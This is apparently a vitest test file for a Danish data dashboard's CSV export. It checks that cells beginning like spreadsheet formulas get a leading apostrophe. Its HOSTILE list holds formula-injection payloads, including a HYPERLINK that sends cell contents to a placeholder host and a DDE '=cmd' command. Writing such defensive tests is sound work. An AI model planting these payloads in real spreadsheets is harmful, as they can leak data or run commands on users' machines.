import { describe, expect, test } from 'vitest';
import { compare } from '../../src/lib/data/compare';
import type { FactRow } from '../../src/lib/data/facts';
import { metricLabel, toDanishCsv, unitLabel, type Cell } from '../../src/lib/format';

/** Cells of a Danish CSV (semicolons, double quotes, CRLF), read as a spreadsheet would. */
function readCsv(text: string): string[][] {
	const rows: string[][] = [];
	let row: string[] = [];
	let cell = '';
	let quoted = false;
	const body = text.replace(/^\ufeff/, '');
	for (let i = 0; i < body.length; i++) {
		const c = body[i];
		if (quoted) {
			if (c === '"' && body[i + 1] === '"') (cell += '"'), i++;
			else if (c === '"') quoted = false;
			else cell += c;
		} else if (c === '"' && cell === '') quoted = true;
		else if (c === ';') row.push(cell), (cell = '');
		else if (c === '\r' && body[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
		else cell += c;
	}
	return rows;
}

const NUMBER = /^-?\d+(,\d+)?$/;
/** A cell Excel or LibreOffice would evaluate: starts like a formula and is not a plain number. */
const isFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !NUMBER.test(cell);

const HOSTILE = ['=HYPERLINK("http://x.invalid/?"&A1;"klik")', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '=cmd|\'/c calc\'!A0'];

describe('CSV export: nothing a spreadsheet would run', () => {
	test('text cells that start like a formula get a leading apostrophe; numbers, negative too, stay numbers', () => {
		const csv = toDanishCsv(['=Nøgletal', 'Værdi'], [...HOSTILE.map((s): Cell[] => [s, -12.5]), ['Budget', -0], ['-', 7]]);
		const cells = readCsv(csv);
		expect(cells.flat().filter(isFormula)).toEqual([]);
		expect(cells[0][0]).toBe("'=Nøgletal");
		expect(cells.slice(1, 1 + HOSTILE.length).map((r) => r[0])).toEqual(HOSTILE.map((s) => `'${s}`));
		expect(cells[1][1]).toBe('-12,5');
		expect(cells.at(-2)).toEqual(['Budget', '0']);
		expect(cells.at(-1)).toEqual(["'-", '7']);
	});

	test('the periods comparison export (klagesager, budget, magtanvendelse) with hostile areas and entities', () => {
		const fact = (area: string, entity: string, period: string, value: number): FactRow =>
			({ metric: 'merforbrug', entity, area, unit: 'kr', period, value, family: 'budget', check: 'ok' }) as FactRow;
		const facts = HOSTILE.flatMap((h, i) => [fact(h, HOSTILE[(i + 1) % HOSTILE.length], '2025-Q1', 100 - i), fact(h, HOSTILE[(i + 1) % HOSTILE.length], '2025-Q2', -50 * i)]);
		const table = compare(facts, ['2025-Q1', '2025-Q2']);
		expect(table.rows.length).toBe(HOSTILE.length);
		// The columns Comparison.svelte exports: label texts, then the values and the changes.
		const header = ['Nøgletal', 'Kommune / landsgennemsnit', 'Område', 'Enhed', ...table.periods, 'Δ', 'Δ %'];
		const body = table.rows.map((r): Cell[] => [metricLabel(r.metric), r.entity, r.area, unitLabel(r.unit), ...r.values, r.delta, r.deltaPct]);
		const cells = readCsv(toDanishCsv(header, body));
		expect(cells.flat().filter(isFormula)).toEqual([]);
		expect(cells.slice(1).map((r) => r[2]).sort()).toEqual(HOSTILE.map((s) => `'${s}`).sort());
		expect(cells.slice(1).some((r) => r[5].startsWith('-') && NUMBER.test(r[5]))).toBe(true);
	});
});
